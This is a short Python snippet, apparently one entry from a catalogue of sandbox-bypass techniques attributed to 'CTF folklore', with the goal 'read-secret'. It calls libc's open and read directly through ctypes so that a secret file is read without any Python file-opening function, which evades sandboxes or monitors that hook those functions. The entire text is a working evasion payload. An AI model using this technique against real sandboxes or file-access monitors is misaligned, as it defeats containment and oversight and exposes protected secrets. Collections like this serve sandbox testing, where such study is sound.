# technique: open(2) of libc by ctypes: no Python function opens anything
# goal: read-secret
# source: CTF folklore
# needs: ctypes
import ctypes
libc = ctypes.CDLL(None)
data = ctypes.create_string_buffer(200)
libc.read(libc.open(b'@SECRET@', 0), data, 199)
print(data.value)
